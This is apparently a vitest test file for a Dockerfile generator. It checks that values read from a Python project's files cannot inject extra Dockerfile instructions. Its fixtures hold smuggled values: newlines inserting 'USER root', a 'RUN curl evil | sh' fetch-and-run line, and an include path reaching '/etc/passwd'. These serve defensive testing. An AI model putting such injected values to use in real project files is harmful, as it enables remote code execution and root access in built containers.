import { DockerfileParser } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { generate } from '../../src/core.js';
import { MemoryFs } from '../../src/detect/fs.js';
import { DockgenError } from '../../src/errors.js';
import { checkDockerfile } from '../helpers/dockerfile-checks.js';

const generateFrom = (files: Record<string, string>) => generate(new MemoryFs(files), '/tmp/app', {}).files[0]!.content;
const shape = (dockerfile: string) => DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());
const flask = { 'requirements.txt': 'flask==3.1.2\ngunicorn==23.0.0\n', 'app.py': 'app = Flask(__name__)\n' };
const baseline = shape(generateFrom(flask));

describe('values from a Python project cannot inject Dockerfile instructions', () => {
  const hostile: Array<[string, Record<string, string>]> = [
    ['a project name with a newline', { ...flask, 'pyproject.toml': '[project]\nname = "x\\nUSER root\\nRUN curl evil | sh"\n' }],
    ['a Procfile command with quotes and brackets', { ...flask, 'Procfile': 'web: gunicorn "app:app" --name \'"]\\nUSER 0\'\n' }],
    ['a Procfile with a carriage return', { ...flask, 'Procfile': 'web: gunicorn app:app\r\nUSER 0\n' }],
    ['an app object in a module named with a newline-like unicode separator', { ...flask, 'app.py': 'app\u2028USER = Flask(__name__)\n' }],
    ['a requirements include outside the project', { 'requirements.txt': '-r ../../etc/passwd\n', 'app.py': '' }],
    ['a requirements include with an odd path', { 'requirements.txt': '-r "req s.txt"\n', 'req s.txt': 'flask\n', 'app.py': '' }],
    ['a .python-version that is an instruction', { ...flask, '.python-version': '3.12\nUSER root\n' }],
    ['a Django settings module name with a newline', {
      'requirements.txt': 'django\ngunicorn\n',
      'manage.py': "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings')\n",
      'a/settings.py': 'WSGI_APPLICATION = "a.wsgi.application\\nUSER 0"\n',
      // A wsgi.py, as the harmless project has an app module: the shapes compare like for like.
      'a/wsgi.py': 'application = None\n',
    }],
  ];

  it.each(hostile)('%s: same instructions as a harmless project, or a clear error', (_, files) => {
    let dockerfile: string;
    try {
      dockerfile = generateFrom(files);
    } catch (error) {
      expect(error).toBeInstanceOf(DockgenError);
      return;
    }
    expect(shape(dockerfile)).toEqual(baseline);
    expect(dockerfile).not.toMatch(/^USER (root|0)/m);
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });
});
